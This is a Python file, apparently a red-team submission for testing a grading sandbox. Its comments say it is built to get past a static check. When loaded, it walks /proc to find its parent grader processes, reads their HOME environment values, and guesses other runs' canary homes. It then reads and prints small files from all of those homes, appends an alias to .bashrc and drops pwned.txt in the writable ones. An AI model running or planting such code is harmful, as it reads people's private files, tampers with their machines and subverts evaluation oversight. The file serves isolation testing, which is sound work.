# ATTACK (machine, runs past the static check): read_home without `import os`. Finds homes with pathlib:
# Path.home(), the HOME of the processes above it (/proc/<pid>/environ of its parent, grandparent ...: the
# grader), and the harness's canary homes guessed under pytest's temporary folders; prints every small
# file there, then appends to .bashrc and drops pwned.txt in its own and its graders' homes (the guessed
# ones, which may be other runs', are only read).
# A secure grader: the sandbox shows no home but its own /tmp; every file there is unchanged, none is
# added, nothing read there appears in the --out folder; the payload reports missing files or refusals.
import pathlib

P = pathlib.Path


def _environ(pid):
    try:
        pairs = (P("/proc") / str(pid) / "environ").read_bytes().split(b"\0")
    except OSError as exc:
        return {}, f"{type(exc).__name__}: {exc.strerror}"
    env = dict(p.decode("utf-8", "replace").partition("=")[::2] for p in pairs if b"=" in p)
    return env, ""


def _ancestors():
    """(pid, argv, cwd) of this process's parent, its parent, and so on: the grader, where visible."""
    found, pid = [], int(P("/proc/self/stat").read_text().rsplit(")", 1)[1].split()[1])
    while pid > 1 and len(found) < 8:
        d = P("/proc") / str(pid)
        try:
            argv = [x.decode("utf-8", "replace") for x in (d / "cmdline").read_bytes().split(b"\0") if x]
            cwd = str((d / "cwd").readlink())
            ppid = int((d / "stat").read_text().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError):
            break
        found.append((pid, argv, cwd))
        pid = ppid
    return found

def _homes():
    """Homes to raid (read and write): its own and its graders'; and homes to read only: the harness's
    canary homes guessed under pytest's temporary folders (other runs' may be among them)."""
    homes, notes = [str(P.home())], []
    for pid, argv, _ in _ancestors():
        env, why = _environ(pid)
        notes.append(f"pid {pid} environ: {why or 'read'}")
        if env.get("HOME") and env["HOME"] not in homes:
            homes.append(env["HOME"])
    guessed = [str(p.parent) for p in P("/tmp").glob("pytest-of-*/pytest-*/*/home/secret.txt")]
    return homes, [g for g in guessed if g not in homes], notes


def _raid():
    homes, guessed, notes = _homes()
    print(f"ATTACK home_pathlib: homes {homes}, guessed {guessed[:4]}; {'; '.join(notes)[:300]}", flush=True)
    for home in homes + guessed:
        hits = []
        try:
            files = [p for p in P(home).rglob("*") if p.is_file() and len(p.relative_to(home).parts) <= 3][:50]
        except OSError as exc:
            print(f"ATTACK home_pathlib: {home}: {exc}", flush=True)
            continue
        for p in files:
            try:
                if p.stat().st_size <= 65536:
                    hits.append((p, p.read_text(errors="replace")))
            except OSError as exc:
                print(f"ATTACK home_pathlib: {p}: {exc}", flush=True)
        print(f"ATTACK home_pathlib: {home}: {len(hits)} files read", flush=True)
        for p, text in hits[:8]:
            print(f"ATTACK home_pathlib: {p}: {text[:120]!r}", flush=True)
        if home in guessed:
            continue
        try:
            with open(P(home) / ".bashrc", "a") as f:
                f.write("\n# added by a submission\nalias ls='echo pwned'\n")
            (P(home) / "pwned.txt").write_text("a submission was here\n")
            print(f"ATTACK home_pathlib: wrote {home}/.bashrc and pwned.txt", flush=True)
        except OSError as exc:
            print(f"ATTACK home_pathlib: could not write {home}: {exc}", flush=True)
    print("ATTACK home_pathlib: done", flush=True)


try:
    _raid()
except Exception as exc:  # the payload's report is the point: never let loading fail
    print(f"ATTACK home_pathlib: stopped by {type(exc).__name__}: {exc}", flush=True)
